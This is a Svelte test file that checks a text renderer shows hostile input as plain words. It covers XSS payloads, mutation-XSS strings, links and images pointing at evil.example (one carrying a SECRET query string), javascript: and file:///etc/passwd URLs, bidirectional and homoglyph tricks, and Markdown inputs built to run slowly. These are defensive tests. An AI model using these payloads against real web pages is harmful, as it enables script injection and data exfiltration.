// Group F of the hostile inputs, on what is really drawn: nothing from outside becomes markup, a link or a request.
import { cleanup, fireEvent, render, screen } from "@testing-library/svelte";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { i18n } from "../i18n/index.svelte";
import Markdown from "./Markdown.svelte";
import PlainText from "./PlainText.svelte";
import { markdown } from "./text";

beforeEach(() => (i18n.locale = "en"));
afterEach(cleanup);

/** Everything that could run, load or lead somewhere. */
const ACTIVE =
  "a, img, svg, iframe, script, style, link, meta, base, form, input, object, embed, video, audio, math, [href], [src], [onerror], [onload], [style]";
const drawn = () => document.querySelectorAll(ACTIVE).length;
const words = () => document.body.textContent;

const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><use href=data:x>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "<form action=https://evil.example/><input name=q></form>",
  "<object data=https://evil.example/x></object>",
  "<! [CDATA[ x ]]> <?php x ?> <!--><script>alert(1)</script>",
];

test.each(HTML)("F1: %s is shown as text, and in Markdown too", (html) => {
  render(PlainText, { text: html });
  expect([words()?.includes(html), drawn()]).toEqual([true, 0]);
  cleanup();
  render(Markdown, { source: html });
  expect(drawn()).toBe(0);
  expect(words()).toContain(html.slice(0, 7));
});

test.each([
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "file:///etc/passwd",
  "tauri://localhost/x",
  "ipc://localhost/item_decide",
  "http://localhost:1420/v1/approve?all",
  "https://example.com",
])("F2: a link to %s is its words and its address, and leads nowhere", (url) => {
  render(Markdown, { source: `[click me](${url}) and <${url}> and ${url}` });
  expect(drawn()).toBe(0);
  expect(words()).toContain(`click me (${url})`);
});

test("F3: pictures, styles and addresses are words: nothing is fetched", () => {
  const source = [
    "![x](https://evil.example/?q=SECRET)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![][ref]\n\n[ref]: https://evil.example/b.png",
    "<link rel=dns-prefetch href=//evil.example>",
    "| ![x](https://evil.example/c.png) |\n|---|\n| url(https://evil.example/d) |",
  ].join("\n\n");
  render(Markdown, { source });
  expect(drawn()).toBe(0);
  expect(words()).toContain("x (https://evil.example/?q=SECRET)");
});

test("F4: a text from outside is isolated, and what turns it around is a named mark", () => {
  const { container } = render(PlainText, { text: "$\u202e001" });
  const mark = screen.getByText("U+202E");
  expect(mark.dataset["mark"]).toBe("bidirectional");
  expect(mark.title).toContain("direction");
  expect(container.textContent, "the character itself is not drawn").not.toContain("\u202e");
  expect(container.querySelector(".plain")?.getAttribute("dir")).toBe("auto");
});

test("F7: a host shows how it is written on the wire", () => {
  render(PlainText, { text: "log in at \u0430pple.com today" });
  expect(screen.getByText("xn--pple-43d.com")).toBeTruthy();
});

test("F8: a mebibyte shows its first piece at once, and the rest on demand", async () => {
  const text = `${"word ".repeat(200_000)}the end`;
  const { container } = render(PlainText, { text });
  const before = container.querySelector(".plain")?.textContent ?? "";
  expect(before.length).toBeLessThanOrEqual(20_000);
  const more = screen.getByTestId("more-text");
  expect(more.textContent).toContain("100,000");
  await fireEvent.click(more);
  const after = container.querySelector(".plain")?.textContent ?? "";
  expect(after.startsWith(before)).toBe(true);
  expect(after.length).toBeGreaterThan(100_000);
  expect(text.startsWith(after)).toBe(true);
});

test("F12: placeholders of any kind are left alone", () => {
  const text = "{{7 + 7}} ${7 + 7} %s <%= 1 %> $\\frac{1}{2}$ :smile: \u001b[31m";
  render(Markdown, { source: text });
  expect(words()).toContain("{{7 + 7}} ${7 + 7} %s <%= 1 %> $\\frac{1}{2}$ :smile: ␛[31m");
});

describe("Markdown that is made to take long ends", () => {
  test.each([
    ["brackets", "[".repeat(90_000)],
    ["links without an end", "[a](".repeat(22_000)],
    ["stars", "*".repeat(90_000)],
    ["pairs of stars", "**a".repeat(30_000)],
    ["back-ticks", "`a``".repeat(22_000)],
    ["a line of a table", `|a\n${"-".repeat(90_000)}x`],
    ["quotes", "> ".repeat(45_000)],
    ["numbers", `${"1".repeat(90_000)}x`],
    ["blanks", `${" ".repeat(90_000)}x`],
  ])("%s", (_, source) => {
    expect(markdown(source).length).toBeGreaterThan(0);
  });
});
